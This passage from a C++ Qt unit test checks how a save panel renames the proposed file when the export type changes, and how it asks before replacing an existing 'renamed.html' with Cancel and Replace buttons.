        emit kinds->textActivated(kinds->itemText(index));
        shown << field->text();
    };

    // Exported as HTML, the document is proposed as "renamed.html"; the name
    // follows each type picked. Only "renamed.md" is there: Save writes
    // "renamed.html" without a question.
    {
        platform::ScriptedAlerts alerts;
        platform::SavePanel panel = panelFor();
        work([&](QFileDialog *dialog, QLineEdit *field, QComboBox *kinds) {
            pick(kinds, field, 1);
            pick(kinds, field, 2);
            pick(kinds, field, 0);
            QMetaObject::invokeMethod(dialog, "accept");
        });
        ASSERT_TRUE(platform::FilePanels::runSavePanel(panel));
        EXPECT_EQ(shown, QStringList({"renamed.html", "renamed.tex", "renamed.md", "renamed.html"}));
        EXPECT_EQ(panel.path, dir.filePath(QStringLiteral("renamed.html")));
        EXPECT_EQ(panel.chosenType, QLatin1String(types::kHtml));
        EXPECT_EQ(alerts.count(), 0);
    }

    // Now "renamed.html" is there: the question names it; Cancel keeps the
    // panel open, Replace answers it.
    write(dir.filePath(QStringLiteral("renamed.html")), "the old page");
    {
        shown.clear();
        platform::ScriptedAlerts alerts({0, 1});  // Cancel, then Replace
        platform::SavePanel panel = panelFor();
        bool stayed = false;
        work([&](QFileDialog *dialog, QLineEdit *, QComboBox *) {
            QMetaObject::invokeMethod(dialog, "accept");
            stayed = dialog->isVisible();
            QMetaObject::invokeMethod(dialog, "accept");
        });
        ASSERT_TRUE(platform::FilePanels::runSavePanel(panel));
        EXPECT_TRUE(stayed);
        EXPECT_EQ(panel.path, dir.filePath(QStringLiteral("renamed.html")));
        ASSERT_EQ(alerts.count(), 2);
        for (const platform::Alert &alert : alerts.shown()) {
            EXPECT_EQ(alert.messageText, QStringLiteral("“renamed.html” already exists. Do you want to replace it?"));
            EXPECT_EQ(alert.buttons, QStringList({"Cancel", "Replace"}));
        }
    }

    // Cancel, then Cancel on the panel: no answer.
    {
        platform::ScriptedAlerts alerts({0});
        platform::SavePanel panel = panelFor();
        work([&](QFileDialog *dialog, QLineEdit *, QComboBox *) {
            QMetaObject::invokeMethod(dialog, "accept");
            dialog->reject();
        });
        EXPECT_FALSE(platform::FilePanels::runSavePanel(panel));
        EXPECT_EQ(alerts.count(), 1);
    }
}

}  // namespace
